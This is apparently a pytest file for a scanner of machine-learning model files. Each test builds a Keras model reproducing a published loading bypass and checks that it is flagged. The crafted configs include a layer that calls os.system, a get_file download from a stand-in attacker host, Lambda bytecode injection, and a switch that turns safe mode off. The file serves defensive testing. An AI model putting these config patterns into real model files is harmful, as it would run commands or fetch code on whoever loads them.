"""One test per published Keras loading bypass, each with an inert payload.

Every sample is a real keras 3 model whose config was edited the way the advisory's
proof of concept does it; the payload only ever names the `marker_command`.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "unit" / "scanners"))

from keras_fixtures import (
    add_layer,
    h5_config,
    keras_config,
    payload_bytecode,
    rewrite_h5,
    rewrite_keras,
    save_benign_models,
)

from modelward import Severity, scan_path


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return save_benign_models(tmp_path_factory.mktemp("keras_cves"))


def worst(path: Path) -> dict[str, Severity]:
    result = scan_path(path, raise_internal=True).files[0]
    out: dict[str, Severity] = {}
    for f in result.findings:
        out[f.rule.id] = max(out.get(f.rule.id, Severity.INFO), f.severity)
    return out


def test_cve_2024_3660_lambda_bytecode_in_keras_zip(benign: dict[str, Path], tmp_path: Path,
                                                    marker_command: str) -> None:
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {
                 "code": payload_bytecode(marker_command), "defaults": None, "closure": None}}}}
    path = rewrite_keras(benign["mlp.keras"], tmp_path / "cve_2024_3660.keras",
                         add_layer(keras_config(benign["mlp.keras"]), layer))
    assert worst(path)["MW-KERAS-001"] >= Severity.HIGH


def test_cve_2025_1550_module_outside_keras(benign: dict[str, Path], tmp_path: Path,
                                            marker_command: str) -> None:
    # config.json names an arbitrary module/function, called with config-given arguments.
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "d", "units": 1},
             "inbound_nodes": [{"args": [{"module": "os", "class_name": "function",
                                          "config": "system", "registered_name": "function"}],
                                "kwargs": {"command": marker_command}}]}
    path = rewrite_keras(benign["mlp.keras"], tmp_path / "cve_2025_1550.keras",
                         add_layer(keras_config(benign["mlp.keras"]), layer))
    assert worst(path)["MW-KERAS-002"] is Severity.CRITICAL


def test_cve_2025_8747_get_file_gadget(benign: dict[str, Path], tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"name": "dl", "function": {
                 "module": "keras.utils", "class_name": "function", "config": "get_file",
                 "registered_name": "function"},
                 "arguments": {"origin": "http://attacker.invalid/x", "cache_dir": "/tmp"}}}
    path = rewrite_keras(benign["mlp.keras"], tmp_path / "cve_2025_8747.keras",
                         add_layer(keras_config(benign["mlp.keras"]), layer))
    assert worst(path)["MW-KERAS-002"] is Severity.CRITICAL


def test_cve_2025_9906_safe_mode_switched_off_from_config(benign: dict[str, Path],
                                                          tmp_path: Path) -> None:
    unsafe = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
              "config": {"name": "off", "function": {
                  "module": "keras.config", "class_name": "function",
                  "config": "enable_unsafe_deserialization", "registered_name": "function"}}}
    reload = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
              "config": {"name": "reload", "function": {
                  "module": "keras.models", "class_name": "function", "config": "load_model",
                  "registered_name": "function"}, "arguments": {"safe_mode": False}}}
    config = add_layer(add_layer(keras_config(benign["mlp.keras"]), unsafe), reload)
    path = rewrite_keras(benign["mlp.keras"], tmp_path / "cve_2025_9906.keras", config)
    result = scan_path(path, raise_internal=True).files[0]
    evidence = {f.evidence for f in result.findings if f.rule.id == "MW-KERAS-002"}
    assert evidence == {"keras.config.enable_unsafe_deserialization", "keras.models.load_model"}


def test_cve_2025_9905_h5_lambda_ignores_safe_mode(benign: dict[str, Path], tmp_path: Path,
                                                   marker_command: str) -> None:
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": {
        "class_name": "__lambda__", "config": {"code": payload_bytecode(marker_command)}}}}
    path = rewrite_h5(benign["mlp.h5"], tmp_path / "cve_2025_9905.h5",
                      add_layer(h5_config(benign["mlp.h5"]), layer))
    assert worst(path)["MW-KERAS-001"] is Severity.CRITICAL


def test_lookup_vocabulary_file_read(benign: dict[str, Path], tmp_path: Path) -> None:
    # keras-team/keras#21751: vocabulary paths read local files / remote URIs on load.
    layer = {"module": "keras.layers", "class_name": "IntegerLookup", "registered_name": None,
             "config": {"name": "v", "vocabulary": "gs://bucket/secret.txt"}}
    path = rewrite_keras(benign["mlp.keras"], tmp_path / "vocab.keras",
                         add_layer(keras_config(benign["mlp.keras"]), layer))
    assert worst(path)["MW-KERAS-004"] is Severity.HIGH
